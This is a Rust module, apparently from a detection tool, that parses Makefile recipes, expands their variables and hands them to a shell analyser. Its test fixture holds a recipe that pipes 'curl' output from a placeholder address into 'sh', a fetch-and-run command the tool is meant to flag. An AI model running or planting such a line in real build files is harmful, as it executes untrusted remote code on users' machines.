//! Makefiles: recipes, as the shell would get them (`make(1)`, GNU make manual, "Recipes").
//! Nothing runs them by itself.

use std::collections::BTreeMap;

use model::{Language, Step, Value};

use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    extensions: &["mk", "mak"],
    places: Places {
        ends: &["/Makefile", "/makefile", "/GNUmakefile"],
        folders: &[],
        named: &[],
    },
    runs_in_place: false,
    ..FrontEnd::new(Language::Makefile, lower)
};

/// Most variables that are followed, and the longest value of one: generated makefiles hold
/// thousands of lists of files, none of which matters.
const FOLLOWED_VARIABLES: usize = 256;
const LONGEST_VALUE: usize = 1_024;

/// What stands for what make would put in and cannot be told: a variable that nothing sets.
const UNTOLD: &str = "${MAKEFILE_VALUE}";

/// Lowers the recipes.
pub fn lower(world: &mut World, text: &str) -> Value {
    let mut variables: BTreeMap<&str, &str> = BTreeMap::new();
    let mut lines = (1..).zip(text.lines());
    let mut in_rule = false;
    while let Some((number, line)) = lines.next() {
        if !world.burn(2) {
            break;
        }
        let Some(recipe) = line.strip_prefix('\t').filter(|_| in_rule) else {
            // A list goes on with a tab as well; only behind a rule that is a recipe.
            let mut last = line;
            while last.ends_with('\\') {
                last = lines.next().map_or("", |(_, line)| line);
            }
            match assignment(line) {
                Some((name, value))
                    if variables.len() < FOLLOWED_VARIABLES && value.len() <= LONGEST_VALUE =>
                {
                    variables.insert(name, value);
                }
                _ if line.trim().is_empty() || line.starts_with('#') => {}
                _ => in_rule = line.contains(':'),
            }
            continue;
        };
        let mut recipe = recipe.trim().to_owned();
        while recipe.ends_with('\\') {
            recipe.pop();
            recipe.push_str(lines.next().map_or("", |(_, line)| line.trim()));
        }
        let code = expand(recipe.trim_start_matches(['@', '-', '+', ' ']), &variables);
        if code.is_empty() || code.starts_with('#') {
            continue;
        }
        world.at(number, &code);
        world.inside(Step::new("recipe"), |world| {
            super::lower(world, Language::Shell, &code)
        });
    }
    Value::literal("")
}

/// `NAME = value` with any operator, if the value is plain.
fn assignment(line: &str) -> Option<(&str, &str)> {
    let (name, value) = line.split_once('=')?;
    let name = name.trim_end_matches([':', '?', '+', ' ', '\t']).trim();
    let name = name.strip_prefix("export ").unwrap_or(name);
    let plain = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    (plain && !value.contains('$') && !value.ends_with('\\')).then(|| (name, value.trim()))
}

/// What make would hand to the shell: known variables replaced, others left to the environment.
fn expand(recipe: &str, variables: &BTreeMap<&str, &str>) -> String {
    let mut out = String::with_capacity(recipe.len());
    let mut rest = recipe;
    while let Some((before, after)) = rest.split_once('$') {
        out.push_str(before);
        let close = match after.chars().next() {
            Some('(') => ')',
            Some('{') => '}',
            Some('$') => {
                out.push('$');
                rest = after.get(1..).unwrap_or_default();
                continue;
            }
            _ => {
                // An automatic variable: a name of a file.
                out.push_str(UNTOLD);
                rest = after
                    .char_indices()
                    .nth(1)
                    .and_then(|(at, _)| after.get(at..))
                    .unwrap_or_default();
                continue;
            }
        };
        let inner = after.get(1..).unwrap_or_default();
        let (name, next) = inner.split_once(close).unwrap_or((inner, ""));
        match (variables.get(name), name.strip_prefix("shell ")) {
            (Some(value), _) => out.push_str(value),
            (None, Some(code)) => out.push_str(&format!("$({code})")),
            (None, None) if name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') => {
                out.push_str(&format!("${{{name}}}"));
            }
            (None, None) => out.push_str(UNTOLD),
        }
        rest = next;
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::language::probe::acts;

    #[test]
    fn recipes_are_expanded() {
        let variables = BTreeMap::from([("URL", "http://192.0.2.1")]);
        assert_eq!(
            expand("curl $(URL)/x > $@; echo $$HOME ${CC}", &variables),
            "curl http://192.0.2.1/x > ${MAKEFILE_VALUE}; echo $HOME ${CC}"
        );
        let found = acts(
            Language::Makefile,
            "A := http://192.0.2.1\nall: x\n\t@curl -s $(A)/x \\\n\t  | sh\n",
        );
        assert!(acts(Language::Makefile, "FILES = \\\n\ta.pdf \\\n\tb.pdf\n").is_empty());
        assert!(
            found
                .iter()
                .any(|act| act.starts_with("Fetch") && act.contains("192.0.2.1/x")),
            "{found:#?}"
        );
    }
}
